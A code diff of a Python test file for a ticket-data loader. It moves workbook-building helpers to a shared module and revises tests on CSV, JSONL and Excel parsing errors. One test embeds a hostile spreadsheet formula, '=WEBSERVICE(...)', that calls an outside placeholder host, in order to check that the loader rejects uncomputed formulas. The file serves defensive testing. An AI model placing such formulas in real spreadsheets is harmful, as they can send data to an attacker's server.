@@ -2,16 +2,13 @@
 
 from __future__ import annotations
 
-import io
 import json
 import os
-import zipfile
 from collections.abc import Callable, Sequence
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
-import openpyxl
 import pytest
 
 from avoir.sources import spreadsheet, ticket_files
@@ -26,6 +23,7 @@ from avoir.sources.model import (
     parse_sources,
 )
 from avoir.sources.ticket_files import SYSTEM, fetch
+from tests.unit.sources.workbooks import repacked, with_cells, workbook
 
 WINDOW = Window(datetime(2026, 1, 1, tzinfo=UTC), datetime(2026, 4, 1, tzinfo=UTC))
 DELIVERED = datetime(2026, 3, 5, tzinfo=UTC).timestamp()
@@ -102,33 +100,6 @@ class Folder:
 @pytest.fixture
 def folder(tmp_path: Path) -> Folder:
     return Folder(tmp_path)
-
-
-def workbook(*rows: Sequence[object], sheets: Sequence[str] = ("Sheet",)) -> bytes:
-    book = openpyxl.Workbook()
-    for name in sheets[1:]:
-        book.create_sheet(name)
-    sheet = book.worksheets[0]
-    sheet.title = sheets[0]
-    for row in rows:
-        sheet.append(row)
-    buffer = io.BytesIO()
-    book.save(buffer)
-    return buffer.getvalue()
-
-
-def repacked(content: bytes, change: Callable[[str, bytes], bytes], **added: bytes) -> bytes:
-    """An archive with its parts changed and others added."""
-    buffer = io.BytesIO()
-    with (
-        zipfile.ZipFile(io.BytesIO(content)) as old,
-        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
-    ):
-        for part in old.infolist():
-            new.writestr(part.filename, change(part.filename, old.read(part)))
-        for name, data in added.items():
-            new.writestr(name, data)
-    return buffer.getvalue()
 
 
 # --- what a mapping makes of files ---
@@ -337,7 +308,7 @@ def test_a_row_that_cannot_be_used_is_told_with_file_and_line(folder: Folder) ->
     assert [(item.reason_code, item.reason.split(": ")[0]) for item in rejected] == [
         ("wrong_cell_count", "tickets.csv:3"),
         ("missing_field", "tickets.csv:4"),
-        ("missing_field", "tickets.csv:6"),
+        ("missing_field", "tickets.csv:5"),
     ]
 
 
@@ -365,7 +336,7 @@ def test_a_workbook_that_is_cut_off_fails_the_load(folder: Folder, part: float) 
     [
         (b"", "is cut off"),
         (b"Number,Opened\nT1,x\n", "missing: Caller, Changed, Product, Status"),
-        ((",".join(HEADER) + "\n").encode(), "has a header and no rows"),
+        ((",".join(HEADER) + "\n").encode(), "has no rows, which is not"),
         ((",".join((*HEADER, "Status")) + "\n").encode(), "twice: Status"),
         ((",".join(HEADER) + '\n"T1\n').encode(), "unexpected end of data"),
         (b'"' + b"x" * 200_000 + b"\n", "field larger than field limit"),
@@ -391,15 +362,28 @@ def test_lines_that_are_no_objects_are_rejected(folder: Folder) -> None:
     assert rejected[2].reason.startswith("tickets.jsonl:4: ")
 
 
-def test_a_formula_is_not_a_value(folder: Folder) -> None:
-    hostile = ("T2", *GOOD[1:3], '=WEBSERVICE("http://198.51.100.7/")', *GOOD[4:])
-    harmless = (*GOOD[:6], "=1+1")
-    folder.put("tickets.xlsx", workbook(HEADER, harmless, hostile))
+def test_a_formula_is_what_it_was_when_it_was_computed_or_nothing(folder: Folder) -> None:
+    never = ("T2", *GOOD[1:3], '=WEBSERVICE("http://198.51.100.7/")', *GOOD[4:])
+    kept, beside = ("T3", *GOOD[1:3], "=1+1", *GOOD[4:]), (*GOOD[:6], "=1+1")
+    failed = ("T4", *GOOD[1:3], "=1+1", *GOOD[4:])
+    content = workbook(HEADER, beside, never, kept, failed)
+    states = {"D4": '<c t="str"><f>1+1</f><v>New</v></c>', "D5": '<c t="e"><f>NA()</f><v>#N/A</v></c>'}
+    folder.put("tickets.xlsx", with_cells(content, **states))
     tables, rejected = folder.read()
-    assert [row["ticket_id"] for row in tables["tickets"]] == ["T1"]
-    assert [(item.reason_code, item.reason.split(": ")[0]) for item in rejected] == [
-        ("formula", "tickets.xlsx:3")
+    assert [(row["ticket_id"], row["state"]) for row in tables["tickets"]] == [("T1", "Open"), ("T3", "New")]
+    assert [(item.reason_code, item.reason) for item in rejected] == [
+        (
+            "formula",
+            "tickets.xlsx:3: Status: D3 holds a formula that was never computed: "
+            '=WEBSERVICE("http://198.51.100.7/")',
+        ),
+        ("cell_error", "tickets.xlsx:5: Status: D5 holds the error #N/A"),
     ]
+
+
+def test_a_day_of_a_spreadsheet_is_no_instant(folder: Folder) -> None:
+    folder.put("tickets.xlsx", workbook(HEADER, ("T1", date(2026, 3, 2), *GOOD[2:])))
+    assert "2026-03-02 is a day and no instant" in folder.read()[1][0].reason
 
 
 @pytest.mark.parametrize(
